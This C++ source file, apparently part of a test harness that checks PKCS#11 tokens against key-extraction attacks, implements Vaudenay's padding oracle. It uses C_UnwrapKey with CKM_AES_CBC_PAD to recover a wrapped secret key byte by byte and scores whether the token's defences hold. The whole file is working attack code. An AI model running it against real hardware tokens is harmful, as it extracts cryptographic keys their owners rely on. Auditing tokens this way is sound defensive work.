/// \file Vaudenay's padding oracle in C_UnwrapKey (Bardou et al., "Efficient Padding Oracle Attacks on
/// Cryptographic Hardware", 2012): the token says of chosen ciphertexts whether their padding is right.
#include "attack.h"

namespace extraction {
namespace {

class PaddingOracle {
 public:
  explicit PaddingOracle(const Scene& scene) : scene_(scene), wrappingKey_(scene.wrappingKey()) {}

  Bytes wrapKey() const {
    return scene_.session.wrap(Mechanism::withIv(CKM_AES_CBC_PAD, Bytes(16)), wrappingKey_, scene_.key());
  }

  /// Whether `iv` and one block decrypt to something that is padded rightly.
  bool accepts(const Bytes& iv, const Bytes& block) const {
    auto values = scene_.replica();
    values.number(CKA_CLASS, CKO_SECRET_KEY).number(CKA_KEY_TYPE, CKK_GENERIC_SECRET);
    try {
      const auto mechanism = Mechanism::withIv(CKM_AES_CBC_PAD, iv);
      scene_.session.destroy(
          scene_.session.unwrap(mechanism, wrappingKey_, block, values.flag(CKA_DECRYPT, false)));
      return true;
    } catch (const Refused& refused) {
      // A template or mechanism that is refused, not a padding, is a defence that holds.
      if (refused.rv == CKR_TEMPLATE_INCONSISTENT || refused.rv == CKR_MECHANISM_INVALID) throw;
      return false;
    }
  }

  /// D(block) xor `previous`, from its last byte to its first.
  Bytes decrypt(const Bytes& previous, const Bytes& block) const {
    Bytes opened(16);
    for (size_t i = 16; i-- > 0;) {
      if (!findByte(opened, i, block)) return {};
    }
    for (size_t i = 0; i < 16; ++i) opened[i] ^= previous[i];
    return opened;
  }

 private:
  bool findByte(Bytes& opened, size_t index, const Bytes& block) const {
    const auto padding = static_cast<CK_BYTE>(16 - index);
    Bytes iv(16, 0x5a);
    for (size_t i = index + 1; i < 16; ++i) iv[i] = opened[i] ^ padding;
    for (int value = 0; value < 256; ++value) {
      iv[index] = static_cast<CK_BYTE>(value);
      if (!accepts(iv, block)) continue;
      Bytes other = iv;
      // Another byte before it must not matter: else it was a longer padding that happened to be right.
      if (index > 0) other[index - 1] ^= 0xff;
      if (!accepts(other, block)) continue;
      opened[index] = iv[index] ^ padding;
      return true;
    }
    return false;
  }

  const Scene& scene_;
  CK_OBJECT_HANDLE wrappingKey_;
};

Gain paddingOracle(const Scene& scene) {
  const PaddingOracle oracle(scene);
  const Bytes blob = oracle.wrapKey();
  Bytes previous(16);
  Bytes key;
  for (size_t offset = 0; offset < 32; offset += 16) {
    const auto from = blob.begin() + static_cast<std::ptrdiff_t>(offset);
    const Bytes block(from, from + 16);
    const Bytes opened = oracle.decrypt(previous, block);
    if (opened.empty()) return Gain::kNothing;
    key.insert(key.end(), opened.begin(), opened.end());
    previous = block;
  }
  return keyIf(scene.target.answer.isIn(key));
}

}  // namespace

std::vector<Attack> paddingOracleAttacks() {
  return {{"padding-oracle", "C_WrapKey by CKM_AES_CBC_PAD, then C_UnwrapKey as a padding oracle",
           paddingOracle}};
}

}  // namespace extraction
